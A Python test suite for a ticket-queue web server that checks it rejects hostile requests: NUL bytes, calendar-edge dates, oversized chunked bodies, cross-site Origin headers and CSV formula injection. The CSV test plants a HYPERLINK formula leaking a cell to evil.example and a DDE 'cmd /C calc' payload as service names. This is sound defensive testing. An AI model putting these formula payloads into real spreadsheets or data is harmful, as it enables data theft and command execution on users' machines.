"""Hostile input against the real server on loopback, on SQLite and PostgreSQL: every bad
request is a 4xx with a message (never a 500), cross-site staff writes are refused."""

from __future__ import annotations

import http.client
import json
import time

import httpx
from fastapi import FastAPI
from qs_helpers import PASSWORD, LiveServer, add_kiosk, add_user, auth, new_id

from server.auth import SESSION_COOKIE


def _staff(app: FastAPI, server: LiveServer, name: str = "lan", role: str = "manager"
           ) -> httpx.Client:
    add_user(app, name, role)
    c = httpx.Client(base_url=server.url)
    r = c.post("/api/v1/auth/login", json={"username": name, "password": PASSWORD})
    assert r.status_code == 200, r.text
    return c


def test_an_offline_ticket_dated_at_the_calendars_edge_is_refused(
        app: FastAPI, live_server: LiveServer) -> None:
    token = add_kiosk(app)
    for when in ("0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00",
                 "1970-01-01T00:00:00Z"):
        for path, body in (("/api/v1/tickets", {"id": new_id(), "service": "HT",
                                                "issued_at": when, "number": 1}),
                           ("/api/v1/tickets/batch", {"tickets": [{
                               "id": new_id(), "service": "HT", "issued_at": when,
                               "number": 1}]})):
            r = httpx.post(live_server.url + path, json=body, headers=auth(token))
            assert r.status_code == 422, (path, when, r.status_code, r.text)
            assert "out of range" in r.json()["detail"]


def test_a_nul_byte_anywhere_is_a_422(app: FastAPI, live_server: LiveServer) -> None:
    token = add_kiosk(app)
    base = live_server.url
    staff = _staff(app, live_server)
    answers = [
        httpx.post(base + "/api/v1/auth/login", json={"username": "a\x00b", "password": "x"}),
        httpx.post(base + "/login", data={"username": "a\x00b", "password": "x"}),
        httpx.post(base + "/s/abc%00", data={"rating": "5", "comment": "a\x00b"}),
        httpx.get(base + "/board/HC%00C"),
        httpx.get(base + "/board/HCC/events?x=%00"),
        httpx.get(base + "/api/v1/sites/HC%00C/board"),
        httpx.post(base + "/api/v1/tickets", headers=auth(token),
                   json={"id": new_id(), "service": "HT", "citizen_id": "ab\x00"}),
        httpx.post(base + "/api/v1/tickets", headers=auth(token),
                   json={"id": new_id(), "service": "H\x00T"}),
        staff.get("/api/v1/reports", params={"site": "H\x00"}),
        staff.post("/api/v1/counters/1/call", json={"number": "A0\x0001"}),
    ]
    for r in answers:
        assert r.status_code == 422, (r.request.url, r.status_code, r.text)
        assert "NUL" in r.json()["detail"]
    # A literal backslash-u0000 typed as text is not a NUL and is served normally.
    r = staff.post("/api/v1/counters/1/call", json={"number": "\\u0000"})
    assert r.status_code in (404, 409, 422) and "NUL" not in r.text


def test_a_chunked_body_over_the_limit_is_a_413(app: FastAPI, live_server: LiveServer
                                                ) -> None:
    token = add_kiosk(app)
    limit = app.state.qs.settings.max_request_bytes
    conn = http.client.HTTPConnection("127.0.0.1", live_server.port, timeout=30)
    conn.putrequest("POST", "/api/v1/tickets/batch")
    conn.putheader("Authorization", f"Bearer {token}")
    conn.putheader("Content-Type", "application/json")
    conn.putheader("Transfer-Encoding", "chunked")
    conn.endheaders()
    chunk = b"x" * 65536
    sent = 0
    try:
        while sent <= limit + len(chunk):
            conn.send(b"%x\r\n%s\r\n" % (len(chunk), chunk))
            sent += len(chunk)
        conn.send(b"0\r\n\r\n")
    except (BrokenPipeError, ConnectionResetError):
        pass  # the server answered and closed before the whole body was sent
    response = conn.getresponse()
    assert response.status == 413
    assert "larger than" in json.loads(response.read())["detail"]
    conn.close()


def test_the_same_ticket_id_with_another_body_is_a_409(app: FastAPI, live_server: LiveServer
                                                       ) -> None:
    token = add_kiosk(app)
    url = live_server.url + "/api/v1/tickets"
    tid = new_id()
    first = httpx.post(url, json={"id": tid, "service": "HT"}, headers=auth(token))
    assert first.status_code == 201
    again = httpx.post(url, json={"id": tid, "service": "HT"}, headers=auth(token))
    assert again.status_code == 200 and again.json()["number"] == first.json()["number"]
    for changed in ({"service": "CT"}, {"service": "HT", "priority": True},
                    {"service": "HT", "citizen_id": "someone-else"}):
        r = httpx.post(url, json={"id": tid, **changed}, headers=auth(token))
        assert r.status_code == 409, (changed, r.status_code, r.text)
        assert "different ticket" in r.json()["detail"]
    r = httpx.post(live_server.url + "/api/v1/tickets/batch", headers=auth(token),
                   json={"tickets": [{"id": tid, "service": "CT"}]})
    assert r.status_code == 200
    item = r.json()["results"][0]
    assert item["result"] == "rejected" and item["reason"] == "id_reused"


def test_cross_site_staff_writes_are_refused(app: FastAPI, live_server: LiveServer) -> None:
    """A page on another origin (another port of the same host is the same *site*, so
    SameSite=Lax sends the cookie) cannot close a counter or log anyone in."""
    staff = _staff(app, live_server, "lan", "staff")
    evil = "http://127.0.0.1:1"
    r = staff.post("/api/v1/counters/1/open", headers={"Origin": evil})
    assert r.status_code == 403 and "cross-site" in r.json()["detail"]
    r = staff.post("/api/v1/counters/1/close", headers={
        "Referer": evil + "/attack.html", "Content-Type": "application/x-www-form-urlencoded"})
    assert r.status_code == 403
    r = staff.post("/logout", headers={"Origin": "null"})
    assert r.status_code == 403
    r = httpx.post(live_server.url + "/api/v1/auth/login", headers={"Origin": evil},
                   json={"username": "lan", "password": PASSWORD})
    assert r.status_code == 403 and SESSION_COOKIE not in r.cookies
    # From the server's own pages (or a program that sends no Origin), it works.
    r = staff.post("/api/v1/counters/1/open", headers={"Origin": live_server.url})
    assert r.status_code == 200 and r.json()["is_open"] is True
    assert staff.post("/api/v1/counters/1/close").status_code == 200


def _open_stream(server: LiveServer, site: str = "HCC") -> tuple[http.client.HTTPConnection,
                                                                  http.client.HTTPResponse]:
    conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
    conn.request("GET", f"/board/{site}/events")
    return conn, conn.getresponse()


def _next_board(response: http.client.HTTPResponse) -> dict:
    while True:
        line = response.readline()
        assert line, "the stream ended"
        if line.startswith(b"data: "):
            return json.loads(line[6:])


def test_board_streams_are_bounded_and_share_one_feed(db_url: str, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from qs_helpers import add_site, make_app

    app = make_app(db_url, tmp_path, board_streams_per_site=3, board_streams_total=4)
    add_site(app, "P2")
    server = LiveServer(app).start()
    token = add_kiosk(app)
    try:
        streams = [_open_stream(server) for _ in range(3)]
        assert all(r.status == 200 for _, r in streams)
        boards = [_next_board(r) for _, r in streams]
        assert all(b == boards[0] for b in boards)
        full = _open_stream(server)
        assert full[1].status == 503 and int(full[1].getheader("Retry-After")) > 0
        assert "open boards" in json.loads(full[1].read())["detail"]
        other = _open_stream(server, "P2")  # another site has room: total 4
        assert other[1].status == 200
        assert _open_stream(server, "P2")[1].status == 503  # the process total is reached
        # A ticket reaches every open board of its site.
        r = httpx.post(server.url + "/api/v1/tickets", headers=auth(token),
                       json={"id": new_id(), "service": "HT"})
        assert r.status_code == 201
        for _, resp in streams:
            waiting = {s["code"]: s["waiting"] for s in _next_board(resp)["services"]}
            assert waiting["HT"] == 1
        # A board that goes away frees its place.
        conn, _ = streams.pop()
        conn.close()
        deadline = time.monotonic() + 10
        while app.state.qs.board_hub.open_streams > 3 and time.monotonic() < deadline:
            time.sleep(0.1)
        again = _open_stream(server)
        assert again[1].status == 200
        for conn, _ in [*streams, other, again]:
            conn.close()
    finally:
        server.stop()
        app.state.qs.issuer.close()
        app.state.qs.db.dispose()


def test_report_csv_cells_never_start_a_formula(app: FastAPI, live_server: LiveServer) -> None:
    """A service named like a spreadsheet formula is text in the downloaded report."""
    import csv
    import io

    import sqlalchemy as sa

    from server.models import Service

    with app.state.qs.db.session() as s:
        ht = s.scalar(sa.select(Service).where(Service.code == "HT"))
        assert ht is not None
        ht.name_vi = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
        ht.name_en = "@SUM(1+1)*cmd|' /C calc'!A0"
    token = add_kiosk(app)
    assert httpx.post(live_server.url + "/api/v1/tickets", headers=auth(token),
                      json={"id": new_id(), "service": "HT"}).status_code == 201
    staff = _staff(app, live_server)
    r = staff.get("/api/v1/reports.csv")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff"))))
    ht_row = next(row for row in rows if row["service"] == "HT")
    assert ht_row["service_name_vi"].startswith("'=HYPERLINK")
    assert ht_row["service_name_en"].startswith("'@SUM")
    assert ht_row["issued"] == "1"
